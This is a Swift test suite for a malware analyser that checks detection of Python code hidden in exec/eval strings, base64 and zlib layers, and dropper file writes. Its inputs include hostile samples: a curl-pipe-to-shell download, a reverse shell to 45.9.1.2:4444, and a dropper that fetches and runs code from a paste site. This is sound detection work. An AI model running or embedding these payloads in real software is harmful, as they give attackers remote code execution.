import Analysis
import Foundation
import LockgateCore
import Testing

/// Code hidden in a string is code: what `exec`, `eval` and `compile` receive as a constant (a literal, or a value
/// folded from base64, zlib, hex, `chr` lists) is analysed, and its behaviours are reported at the call.
@Suite struct PythonExecutedCodeTests {
    /// `import os\nos.system('curl http://x.example/i.sh | sh')\n`, base64-encoded.
    static let shellPayload = "aW1wb3J0IG9zCm9zLnN5c3RlbSgnY3VybCBodHRwOi8veC5leGFtcGxlL2kuc2ggfCBzaCcpCg=="

    @Test func base64CodeIsAnalysedAtTheCall() {
        let analysis = PythonTestSupport.analyse("import base64\nexec(base64.b64decode('\(Self.shellPayload)'))\n")
        let atCall = analysis.allBehaviours.filter { $0.line == 2 && $0.column == 1 }
        let kinds = Set(atCall.map(\.kind))
        #expect(kinds.isSuperset(of: [.evalCode, .importOSModule, .spawnProcess, .shellCommand]))
        let spawn = atCall.first { $0.kind == .spawnProcess }
        #expect(spawn?.snippet == "decoded: os.system('curl http://x.example/i.sh | sh')")
        #expect(atCall.allSatisfy { $0.context == .runtime })
    }

    @Test func literalCodeAndCompileAreAnalysed() {
        let literal = PythonTestSupport.analyse("exec(\"import subprocess; subprocess.Popen(['id'])\")\n")
        #expect(PythonTestSupport.kinds(literal).contains(.spawnProcess))
        let compiled = PythonTestSupport.analyse(
            "code = compile(\"__import__('os').system('id')\", '<string>', 'exec')\neval(code)\n")
        #expect(PythonTestSupport.kinds(compiled).contains(.spawnProcess))
    }

    @Test func layersOfEncodedCodeAreFollowed() {
        // exec(b64(...)) whose decoded code is itself `exec(base64.b64decode(shellPayload))`.
        let outer =
            "aW1wb3J0IGJhc2U2NApleGVjKGJhc2U2NC5iNjRkZWNvZGUoJ2FXMXdiM0owSUc5ekNtOXpMbk41YzNSbGJTZ25ZM1Z5YkNCb2RIUndP"
            + "aTh2ZUM1bGVHRnRjR3hsTDJrdWMyZ2dmQ0J6YUNjcENnPT0nKSk="
        let analysis = PythonTestSupport.analyse(
            "import base64\nexec(base64.b64decode('\(outer)'))\n", context: .install)
        let spawn = analysis.allBehaviours.first { $0.kind == .spawnProcess }
        #expect(spawn?.line == 2)
        #expect(spawn?.context == .install)
        #expect(spawn?.snippet == "decoded: os.system('curl http://x.example/i.sh | sh')")
    }

    @Test func zlibPackedCodeIsInflatedAndAnalysed() {
        // zlib.compress of a script that runs what it downloads, base64-encoded.
        let packed =
            "eJzLzC3ILypRKC3KyclM0itKLSxNLS7hSq1ITdZAFdMDcvMLUvM01DNKSgqs9PUr9FIrEnMLclL1C9Q1gaoSUzQ0NbkA1gUcvg=="
        let analysis = PythonTestSupport.analyse(
            "import zlib, base64\nexec(zlib.decompress(base64.b64decode('\(packed)')))\n")
        let kinds = PythonTestSupport.kinds(analysis)
        #expect(kinds.contains(.downloadExecute), "\(PythonTestSupport.describe(analysis))")
        #expect(kinds.contains(.useNetwork))
    }

    @Test func valuesThatAreNotCodeAddNothing() {
        let analysis = PythonTestSupport.analyse(
            """
            import base64, zlib
            a = eval('1')
            b = eval('True')
            c = exec("x = 'os.system(1)'  # subprocess.Popen")
            d = exec(zlib.decompress(b'not a zlib stream'))
            """)
        let kinds = PythonTestSupport.kinds(analysis)
        #expect(!kinds.contains(.spawnProcess))
        #expect(!kinds.contains(.importOSModule))
    }

    @Test func deepLayersStopAtTheLimit() {
        // Ten layers of exec(base64.b64decode(...)) around a process run: only the first few layers are analysed,
        // so the run at the bottom is not reported, and nothing recurses without end.
        func wrap(_ code: String) -> String {
            "import base64\nexec(base64.b64decode('" + Data(code.utf8).base64EncodedString() + "'))\n"
        }
        let bottom = "__import__('os').system('id')\n"
        let shallow = PythonTestSupport.analyse((0..<3).reduce(bottom) { code, _ in wrap(code) })
        #expect(PythonTestSupport.kinds(shallow).contains(.spawnProcess))
        let deep = PythonTestSupport.analyse((0..<10).reduce(bottom) { code, _ in wrap(code) })
        #expect(!PythonTestSupport.kinds(deep).contains(.spawnProcess))
        #expect(PythonTestSupport.kinds(deep).contains(.evalCode))
    }

    @Test func codeADropperWritesIsAnalysedAtTheWrite() {
        let analysis = PythonTestSupport.analyse(
            """
            CODE = \"\"\"
            import socket, subprocess
            s = socket.socket()
            s.connect(("45.9.1.2", 4444))
            subprocess.call(["/bin/sh", "-i"])
            \"\"\"
            class Post:
                def run(self):
                    f = open("remote.py", "w")
                    f.write(CODE)
            Post().run()
            """, context: .install)
        let atWrite = analysis.allBehaviours.filter { $0.line == 10 }
        let kinds = Set(atWrite.map(\.kind))
        #expect(
            kinds.isSuperset(of: [.importNetworkModule, .useNetwork, .urlRawIP, .spawnProcess, .shellCommand]),
            "\(PythonTestSupport.describe(analysis))")
        #expect(atWrite.first { $0.kind == .spawnProcess }?.snippet == #"decoded: subprocess.call(["/bin/sh", "-i"])"#)
        #expect(atWrite.allSatisfy { $0.context == .install })
        let viaPath = PythonTestSupport.analyse(
            "import pathlib\npathlib.Path('x.py').write_text('import os\\nos.system(\"id\")\\n')\n")
        #expect(PythonTestSupport.kinds(viaPath).contains(.spawnProcess), "\(PythonTestSupport.describe(viaPath))")
    }

    @Test func codeWrittenToATemporaryFileAndRunWindowlessIsADropper() {
        let analysis = PythonTestSupport.analyse(
            """
            from tempfile import NamedTemporaryFile as _f
            from sys import executable as _e
            from os import system as _s
            class http:
                _t = _f(delete=False)
                _t.write(b\"\"\"from urllib.request import urlopen;exec(urlopen('https://paste.fo/raw/x').read())\"\"\")
                _t.close()
                _s(f"start {_e.replace('.exe', 'w.exe')} {_t.name}")
            """, context: .install)
        let atWrite = Set(analysis.allBehaviours.filter { $0.line == 6 }.map(\.kind))
        #expect(
            atWrite.isSuperset(of: [.useNetwork, .evalCode, .downloadExecute, .urlPaste]),
            "\(PythonTestSupport.describe(analysis))")
        let atRun = Set(analysis.allBehaviours.filter { $0.line == 8 }.map(\.kind))
        #expect(atRun.isSuperset(of: [.spawnProcess, .hiddenProcess, .writeExecute]), "\(atRun)")
        let reading = PythonTestSupport.analyse(
            "import tempfile, os\nt = tempfile.NamedTemporaryFile('r')\nos.system(f'python {t.name}')\n")
        #expect(!PythonTestSupport.kinds(reading).contains(.writeExecute), "\(PythonTestSupport.describe(reading))")
    }

    @Test func writtenTextThatIsNotAProgramAddsNothing() {
        let analysis = PythonTestSupport.analyse(
            """
            with open("setup.cfg", "w") as f:
                f.write("[metadata]\\nname = demo.tool\\nurl = https://example.com/x\\n")
            with open("_version.py", "w") as f:
                f.write("__version__ = '1.2.3'\\n")
            with open("notes.txt", "w") as f:
                f.write("Run subprocess.call(x) to start.")
            """)
        let kinds = PythonTestSupport.kinds(analysis)
        #expect(!kinds.contains(.spawnProcess), "\(PythonTestSupport.describe(analysis))")
        #expect(!kinds.contains(.importProcessModule))
    }
}
